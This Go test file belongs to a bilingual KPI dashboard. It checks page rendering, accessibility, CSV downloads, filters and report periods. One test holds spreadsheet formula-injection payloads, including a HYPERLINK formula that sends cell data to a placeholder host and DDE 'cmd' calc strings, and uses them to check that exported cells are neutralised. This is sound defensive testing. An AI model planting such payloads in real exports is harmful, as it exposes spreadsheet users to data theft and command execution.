package web

import (
	"bytes"
	"context"
	"encoding/csv"
	"io/fs"
	"math"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"testing"
	"testing/fstest"
	"time"

	"golang.org/x/net/html"

	"github.com/prometheus/common/expfmt"
	"github.com/prometheus/common/model"

	"github.com/kpiwatch/kpiwatch/catalogue"
	"github.com/kpiwatch/kpiwatch/conventions"
	"github.com/kpiwatch/kpiwatch/exporter"
	"github.com/kpiwatch/kpiwatch/internal/htmlcheck"
	"github.com/kpiwatch/kpiwatch/project06"
	"github.com/kpiwatch/kpiwatch/units"
)

// judgedAt is the instant the embedded default is judged at in these tests:
// after the October 2026 reports were due.
var judgedAt = time.Date(2026, 11, 20, 9, 0, 0, 0, time.UTC)

var (
	defaultOnce sync.Once
	defaultExp  *exporter.Exporter
)

// embedded is an exporter over the embedded Project 06 catalogue and its
// sample data, read once, judged at judgedAt.
func embedded(tb testing.TB) *exporter.Exporter {
	tb.Helper()
	defaultOnce.Do(func() {
		cat, err := project06.Load()
		if err != nil {
			tb.Fatal(err)
		}
		e, err := exporter.New(cat, project06.FS, exporter.Options{Now: func() time.Time { return judgedAt }})
		if err != nil {
			tb.Fatal(err)
		}
		e.RefreshAll(context.Background())
		defaultExp = e
	})
	if defaultExp == nil {
		tb.Fatal("the embedded default did not load")
	}
	return defaultExp
}

func get(tb testing.TB, h http.Handler, target string) (int, string) {
	tb.Helper()
	rec := httptest.NewRecorder()
	h.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, target, nil))
	return rec.Code, rec.Body.String()
}

// pagesOf lists every page of the embedded default: the scorecard in both
// languages, each KPI, each province, tasks, sources and the briefing.
func pagesOf(snap *exporter.Snapshot) []string {
	out := []string{"/", "/?lang=en", "/tasks", "/sources", "/reporting", "/reporting?lang=en", "/report", "/report?period=2026-10&lang=en"}
	for _, k := range snap.KPIs {
		out = append(out, "/kpi/"+k.KPI.ID)
	}
	for _, p := range snap.Catalogue.UnitLevel(catalogue.DimProvince).Current() {
		out = append(out, "/unit/province/"+url.PathEscape(p.Name))
	}
	return out
}

// TestProvinceLinks: a province's page of earlier versions, by its code,
// leads to its page now, in the same language.
func TestProvinceLinks(t *testing.T) {
	h := New(embedded(t).Snapshot, Options{})
	rec := httptest.NewRecorder()
	h.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/province/01?lang=en", nil))
	if rec.Code != http.StatusMovedPermanently || rec.Header().Get("Location") != "/unit/province/Ha%20Noi?lang=en" {
		t.Errorf("/province/01: %d to %q", rec.Code, rec.Header().Get("Location"))
	}
	if code, _ := get(t, h, "/province/99"); code != http.StatusNotFound {
		t.Errorf("/province/99: %d, want 404", code)
	}
}

// maxPageBytes is the weight goal of a page of the embedded default.
const maxPageBytes = 200 << 10

// TestEveryPage serves every page of the embedded default and checks what
// holds for all: it answers 200 under the weight goal, declares its
// language, every table header has a scope, every filter control a label,
// every chart a text alternative, and every link on it leads somewhere.
func TestEveryPage(t *testing.T) {
	e := embedded(t)
	h := New(e.Snapshot, Options{})
	links := map[string]string{}
	for _, target := range pagesOf(e.Snapshot()) {
		code, body := get(t, h, target)
		if code != http.StatusOK {
			t.Errorf("%s: %d", target, code)
			continue
		}
		if len(body) > maxPageBytes {
			t.Errorf("%s weighs %d bytes, goal %d", target, len(body), maxPageBytes)
		}
		wantLang := "vi"
		if strings.Contains(target, "lang=en") {
			wantLang = "en"
		}
		doc := parse(t, body)
		for _, p := range htmlcheck.Accessibility(doc, wantLang) {
			t.Errorf("%s: %s", target, p)
		}
		for _, href := range htmlcheck.Links(doc) {
			links[href] = target
		}
	}
	for href, from := range links {
		switch {
		case href == "/metrics" || href == conventions.UnitsPath || href == "/-/healthy" || href == "/-/ready":
			continue // served beside the pages (tested with the server)
		case strings.HasPrefix(href, "/"):
			if code, _ := get(t, h, href); code != http.StatusOK {
				t.Errorf("dead link %s on %s: %d", href, from, code)
			}
		case !strings.HasPrefix(href, "data:"):
			t.Errorf("link %s on %s leaves the server (air-gapped pages fetch nothing)", href, from)
		}
	}
}

func parse(t testing.TB, body string) *html.Node {
	t.Helper()
	doc, err := htmlcheck.Parse(body)
	if err != nil {
		t.Fatal(err)
	}
	return doc
}

// rows are the data rows of a table of a page, as attribute maps.
func rows(t testing.TB, body, tableID string) []map[string]string {
	var out []map[string]string
	for _, r := range htmlcheck.Rows(parse(t, body), tableID) {
		out = append(out, r.Data)
	}
	return out
}

// TestStatusColoursContrast checks every status's words against its colour,
// and the page's links and header, for WCAG 2's 4.5:1 (normal text).
func TestStatusColoursContrast(t *testing.T) {
	pairs := map[string][2]string{"link on white": {"#1f4e79", "#ffffff"}, "header": {"#ffffff", "#1f4e79"}, "body text": {"#101828", "#ffffff"}, "muted text": {"#344054", "#ffffff"}}
	for _, s := range statusStyles {
		pairs[s.status] = [2]string{s.fg, s.bg}
	}
	for name, p := range pairs {
		if r := contrast(p[0], p[1]); r < 4.5 {
			t.Errorf("%s: %s on %s has contrast %.2f, want >= 4.5", name, p[0], p[1], r)
		}
	}
	if r := contrast("#ffffff", "#ffffff"); r != 1 {
		t.Errorf("white on white: %v", r)
	}
	if r := contrast("#000000", "#ffffff"); math.Abs(r-21) > 1e-9 {
		t.Errorf("black on white: %v, want 21", r)
	}
}

// contrast is the WCAG 2 contrast ratio of two sRGB colours (#rrggbb).
func contrast(a, b string) float64 {
	la, lb := luminance(a), luminance(b)
	if la < lb {
		la, lb = lb, la
	}
	return (la + 0.05) / (lb + 0.05)
}

func luminance(hex string) float64 {
	ch := func(i int) float64 {
		v, _ := strconv.ParseUint(hex[1+2*i:3+2*i], 16, 8)
		c := float64(v) / 255
		if c <= 0.03928 {
			return c / 12.92
		}
		return math.Pow((c+0.055)/1.055, 2.4)
	}
	return 0.2126*ch(0) + 0.7152*ch(1) + 0.0722*ch(2)
}

// TestFilters filters the scorecard on the server, without script.
func TestFilters(t *testing.T) {
	e := embedded(t)
	h := New(e.Snapshot, Options{})
	_, all := get(t, h, "/")
	allRows := rows(t, all, "kpis")
	if len(allRows) != len(e.Snapshot().KPIs) {
		t.Fatalf("scorecard shows %d KPIs, the catalogue has %d", len(allRows), len(e.Snapshot().KPIs))
	}
	missed := 0
	for _, r := range allRows {
		if r["status"] == conventions.StatusMissed {
			missed++
		}
	}
	_, body := get(t, h, "/?status=missed")
	got := rows(t, body, "kpis")
	if len(got) != missed || missed == 0 {
		t.Errorf("?status=missed shows %d rows, the scorecard has %d missed", len(got), missed)
	}
	for _, r := range got {
		if r["status"] != conventions.StatusMissed {
			t.Errorf("?status=missed shows %s (%s)", r["kpi"], r["status"])
		}
	}
	if !strings.Contains(body, `<option value="missed" selected>`) {
		t.Error("the chosen status is not shown as selected")
	}
	_, body = get(t, h, "/?owner=moh&lang=en")
	for _, r := range rows(t, body, "kpis") {
		if k := e.Catalogue(); k != nil {
			for _, kk := range k.KPIs {
				if kk.ID == r["kpi"] && kk.Owner != "moh" {
					t.Errorf("?owner=moh shows %s owned by %s", kk.ID, kk.Owner)
				}
			}
		}
	}
	if !strings.Contains(body, `<input type="hidden" name="lang" value="en">`) {
		t.Error("filtering in English does not keep the language")
	}
	_, body = get(t, h, "/?block=party")
	if n := len(rows(t, body, "kpis")); n != 0 || !strings.Contains(body, "Không có chỉ tiêu nào khớp bộ lọc.") {
		t.Errorf("?block=party: %d rows and no word that nothing matches", n)
	}
}

// TestCSV downloads every table of the scorecard and a KPI page as CSV: the
// same rows as the page, with raw figures.
func TestCSV(t *testing.T) {
	e := embedded(t)
	h := New(e.Snapshot, Options{})
	for _, c := range []struct{ page, table string }{{"/", "kpis"}, {"/", "by_province"}, {"/kpi/social_benefit_paid_by_bank", "units"}, {"/report?period=2026-10", "changes"}, {"/tasks", "overdue"}, {"/reporting", "not_reported"}} {
		_, body := get(t, h, c.page)
		htmlRows := rows(t, body, c.table)
		sep := "?"
		if strings.Contains(c.page, "?") {
			sep = "&"
		}
		rec := httptest.NewRecorder()
		h.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, c.page+sep+"format=csv&table="+c.table, nil))
		if ct := rec.Header().Get("Content-Type"); !strings.HasPrefix(ct, "text/csv") {
			t.Errorf("%s %s: Content-Type %q", c.page, c.table, ct)
		}
		recs, err := csv.NewReader(rec.Body).ReadAll()
		if err != nil {
			t.Fatalf("%s %s: %v", c.page, c.table, err)
		}
		if len(recs)-1 != len(htmlRows) || len(htmlRows) == 0 {
			t.Errorf("%s %s: %d CSV rows, %d on the page", c.page, c.table, len(recs)-1, len(htmlRows))
		}
		if c.table == "kpis" {
			for i, r := range htmlRows {
				if recs[i+1][0] != r["kpi"] || recs[i+1][2] != r["status"] || recs[i+1][4] != r["value"] {
					t.Errorf("CSV row %v does not match the page's %v", recs[i+1], r)
				}
			}
		}
	}
	if code, _ := get(t, h, "/?format=csv&table=nope"); code != http.StatusNotFound {
		t.Errorf("an unknown table: %d, want 404", code)
	}
}

func TestTileMapPlacesEveryProvince(t *testing.T) {
	seen := map[[2]int]string{}
	provinces := units.Default().Level(catalogue.DimProvince).Current()
	for _, p := range provinces {
		tl, ok := tiles[p.Code]
		if !ok {
			t.Errorf("%s (%s) has no tile", p.Name, p.Code)
			continue
		}
		if other, dup := seen[[2]int{tl.col, tl.row}]; dup {
			t.Errorf("%s and %s share a tile", p.Name, other)
		}
		seen[[2]int{tl.col, tl.row}] = p.Name
	}
	if len(tiles) != len(provinces) {
		t.Errorf("%d tiles for %d provinces", len(tiles), len(provinces))
	}
	// North above south: Ha Noi above Hue above Ho Chi Minh City above Ca Mau.
	if !(tiles["01"].row < tiles["46"].row && tiles["46"].row < tiles["79"].row && tiles["79"].row < tiles["96"].row) {
		t.Error("tiles are not ordered north to south")
	}
}

func TestNumbers(t *testing.T) {
	for _, c := range []struct {
		l    lang
		v    float64
		d    int
		want string
	}{{vi, 1234.5, 1, "1.234,5"}, {en, 1234.5, 1, "1,234.5"}, {vi, 71000000, 0, "71.000.000"}, {en, -0.04, 1, "0.0"}, {en, -12, 0, "−12"}, {vi, math.NaN(), 0, "–"}} {
		if got := c.l.number(c.v, c.d); got != c.want {
			t.Errorf("%s number(%v, %d) = %q, want %q", c.l, c.v, c.d, got, c.want)
		}
	}
}

func TestReportPeriods(t *testing.T) {
	for _, c := range []struct {
		now  time.Time
		want string
	}{{time.Date(2026, 11, 20, 0, 0, 0, 0, time.UTC), "2026-10"}, {time.Date(2026, 11, 15, 12, 0, 0, 0, time.UTC), "2026-09"}, {time.Date(2026, 1, 16, 0, 0, 0, 0, time.UTC), "2025-12"}} {
		if got := LastPeriod(embedded(t).Catalogue(), c.now).Format("2006-01"); got != c.want {
			t.Errorf("LastPeriod(%s) = %s, want %s", c.now, got, c.want)
		}
	}
	h := New(embedded(t).Snapshot, Options{})
	code, body := get(t, h, "/report?period=October")
	if code != http.StatusBadRequest || !strings.Contains(body, "YYYY-MM") {
		t.Errorf("a bad period: %d", code)
	}
	// A month no briefing can be about is refused, not briefed on with the
	// snapshot's own figures.
	for target, want := range map[string]struct {
		code int
		msg  string
	}{
		"/report?period=9999-12&lang=en": {http.StatusBadRequest, `the month &#34;9999-12&#34; has not begun (today is ` + judgedAt.Format(time.DateOnly) + `)`},
		"/report?period=2014-12&lang=en": {http.StatusBadRequest, `no report can be for a month before 2015-01: &#34;2014-12&#34;`},
		"/report?period=2016-01&lang=en": {http.StatusNotFound, `no KPI has a report for &#34;2016-01&#34; or any month before it`},
	} {
		if code, body := get(t, h, target); code != want.code || !strings.Contains(body, want.msg) {
			t.Errorf("%s: %d, want %d and %s in:\n%.2000s", target, code, want.code, want.msg, body)
		}
	}
	// The briefing on October 2026 as judged on 15 November.
	_, body = get(t, h, "/report?period=2026-10")
	if !strings.Contains(body, "15/11/2026") {
		t.Error("the briefing does not say the day it is judged on")
	}
	for _, id := range []string{"summary", "changes", "lagging", "lagging_province", "owners", "tasks", "unreported"} {
		if !strings.Contains(body, `<table id="`+id+`">`) {
			t.Errorf("the briefing lacks its %s table", id)
		}
	}
	if !strings.Contains(body, "@page{size:A4") {
		t.Error("the briefing has no A4 print stylesheet")
	}
}

// TestLanguageSwitch: names come from the catalogue in the page's language,
// and the switch keeps the query.
func TestLanguageSwitch(t *testing.T) {
	e := embedded(t)
	h := New(e.Snapshot, Options{})
	k := e.Catalogue().KPIs[2]
	_, inVI := get(t, h, "/kpi/"+k.ID+"?x=1")
	_, inEN := get(t, h, "/kpi/"+k.ID+"?lang=en")
	if !strings.Contains(inVI, "<h1>"+html.EscapeString(k.NameVI)+"</h1>") || !strings.Contains(inEN, "<h1>"+html.EscapeString(k.Name)+"</h1>") {
		t.Errorf("%s: the title is not the catalogue's name in each language", k.ID)
	}
	if !strings.Contains(inVI, `href="/kpi/`+k.ID+`?lang=en&amp;x=1"`) {
		t.Error("the language switch does not keep the query")
	}
	q, _ := url.ParseQuery("lang=en")
	if langOf(&q) != en {
		t.Error("?lang=en is not English")
	}
}

// BenchmarkPages renders each kind of page of the embedded default on the
// server (goal: under 50 ms each).
func BenchmarkPages(b *testing.B) {
	e := embedded(b)
	h := New(e.Snapshot, Options{})
	for _, target := range []string{"/", "/kpi/social_benefit_paid_by_bank", "/unit/province/Ha%20Noi", "/tasks", "/sources", "/report?period=2026-10"} {
		b.Run(strings.NewReplacer("/", "_", "?", "_").Replace(target), func(b *testing.B) {
			var size int
			for b.Loop() {
				var buf bytes.Buffer
				if err := h.Write(&buf, target); err != nil {
					b.Fatal(err)
				}
				size = buf.Len()
			}
			b.ReportMetric(float64(size), "bytes/page")
		})
	}
}

// TestReportingPage: the units the page lists as not reported are those the
// exporter serves with kpi_report_received 0, and the counts per block add up
// to the expected and received series it serves.
func TestReportingPage(t *testing.T) {
	e := embedded(t)
	var b strings.Builder
	if err := e.WriteKPIMetrics(&b); err != nil {
		t.Fatal(err)
	}
	parser := expfmt.NewTextParser(model.LegacyValidation)
	mfs, err := parser.TextToMetricFamilies(strings.NewReader(b.String()))
	if err != nil {
		t.Fatal(err)
	}
	served := map[string]bool{}
	expected, received := map[string]int{}, map[string]int{}
	for _, m := range mfs[conventions.ReportReceived].GetMetric() {
		l := map[string]string{}
		for _, p := range m.GetLabel() {
			l[p.GetName()] = p.GetValue()
		}
		unit := l[catalogue.DimProvince] + l[catalogue.DimMinistry]
		if k, ok := e.Catalogue().KPI(l[conventions.LabelKPI]); ok && k.HasDimension(catalogue.DimBlock) {
			unit = l[catalogue.DimBlock] // a KPI reported by block
		}
		expected[l[conventions.LabelBlock]]++
		if m.GetGauge().GetValue() == 0 {
			served[l[conventions.LabelKPI]+"/"+unit] = true
		} else {
			received[l[conventions.LabelBlock]]++
		}
	}
	if len(served) == 0 {
		t.Fatal("the sample has no unit that has not reported: nothing to check")
	}
	h := New(e.Snapshot, Options{})
	_, body := get(t, h, "/reporting")
	listed := map[string]bool{}
	for _, r := range rows(t, body, "not_reported") {
		listed[r["kpi"]+"/"+r["unit"]] = true
	}
	for k := range served {
		if !listed[k] {
			t.Errorf("%s is served as not received but not listed", k)
		}
	}
	if len(listed) != len(served) {
		t.Errorf("%d units listed as not reported, %d served", len(listed), len(served))
	}
	for _, r := range rows(t, body, "by_block") {
		if r["block"] == "" || expected[r["block"]] == 0 {
			t.Errorf("block row %v has no served expected reports", r)
		}
	}
	for block, n := range expected {
		if !strings.Contains(body, `data-block="`+block+`"`) {
			t.Errorf("block %s (%d expected, %d received) has no row", block, n, received[block])
		}
	}
}

// TestCSVCellsNeutralised: a cell a spreadsheet would run as a formula opens
// as text (a quote before it), plain negative numbers stay numbers.
func TestCSVCellsNeutralised(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://x.example/?"&A1,"Xem")`: `'=HYPERLINK("http://x.example/?"&A1,"Xem")`,
		"+84 912 345 678":        "'+84 912 345 678",
		"-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
		"@SUM(A1:A9)":            "'@SUM(A1:A9)",
		"\t=1+1":                 "'\t=1+1",
		"\r=1+1":                 "'\r=1+1",
		"＝1+1":                   "'＝1+1",
		"-":                      "'-",
		"-0.125":                 "-0.125",
		"-1.5e-07":               "-1.5e-07",
		"-12,5%":                 "-12,5%",
		"Hà Nội":                 "Hà Nội",
		"0.5":                    "0.5",
		"":                       "",
		"a=b":                    "a=b",
	} {
		if got := csvCell(in); got != want {
			t.Errorf("csvCell(%q) = %q, want %q", in, got, want)
		}
	}
	// Task titles come from the reports as written: titles that are
	// formulae open as text in the download of the overdue tasks.
	cat, err := project06.Load()
	if err != nil {
		t.Fatal(err)
	}
	const tasks = "data/lo-trinh-nhiem-vu.csv"
	orig, err := fs.ReadFile(project06.FS, tasks)
	if err != nil {
		t.Fatal(err)
	}
	hostile := []string{`"=HYPERLINK(""http://x.example/"",""Bấm"")"`, "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)"}
	lines := strings.Split(string(orig), "\n")
	for i := 1; i < len(lines); i++ {
		if f := strings.SplitN(lines[i], ",", 4); len(f) == 4 {
			lines[i] = f[0] + "," + f[1] + "," + hostile[i%len(hostile)] + "," + f[3]
		}
	}
	fsys := overlayFS{project06.FS, fstest.MapFS{tasks: {Data: []byte(strings.Join(lines, "\n"))}}}
	e, err := exporter.New(cat, fsys, exporter.Options{Now: func() time.Time { return judgedAt }})
	if err != nil {
		t.Fatal(err)
	}
	e.RefreshAll(context.Background())
	_, body := get(t, New(e.Snapshot, Options{}), "/tasks?format=csv&table=overdue")
	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	quoted := 0
	for _, r := range recs {
		for _, c := range r {
			if strings.HasPrefix(c, "'") {
				quoted++
			}
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				if _, err := strconv.ParseFloat(c, 64); err != nil {
					t.Errorf("a cell begins with %q: %q", c[0], c)
				}
			}
		}
	}
	if quoted < len(recs)-1 || len(recs) < 2 { // every title is hostile
		t.Errorf("no title neutralised in the download:\n%.600s", body)
	}
}

// overlayFS reads the files of over in place of base's.
type overlayFS struct {
	base fs.FS
	over fstest.MapFS
}

func (o overlayFS) Open(name string) (fs.File, error) {
	if _, ok := o.over[name]; ok {
		return o.over.Open(name)
	}
	return o.base.Open(name)
}

// rankRow is a row of a level's table on the scorecard, with its counts.
var rankRow = regexp.MustCompile(`<tr data-province="([^"]*)" data-missed="(\d+)" data-at_risk="(\d+)">`)

// TestScorecardRanksUnitsWorstFirst: the provinces' table lists the one
// with the most KPIs missed first, then the most at risk.
func TestScorecardRanksUnitsWorstFirst(t *testing.T) {
	_, body := get(t, New(embedded(t).Snapshot, Options{}), "/")
	rs := rankRow.FindAllStringSubmatch(body, -1)
	if len(rs) != 34 {
		t.Fatalf("%d provinces ranked, want the 34", len(rs))
	}
	var prev [2]int
	for i, r := range rs {
		missed, _ := strconv.Atoi(r[2])
		atRisk, _ := strconv.Atoi(r[3])
		if cur := [2]int{missed, atRisk}; i > 0 && (cur[0] > prev[0] || cur[0] == prev[0] && cur[1] > prev[1]) {
			t.Errorf("%s (%d missed, %d at risk) after a province with %v", r[1], missed, atRisk, prev)
		}
		prev = [2]int{missed, atRisk}
	}
	if rs[0][2] == "0" {
		t.Error("no province has a KPI missed: the order says nothing")
	}
}
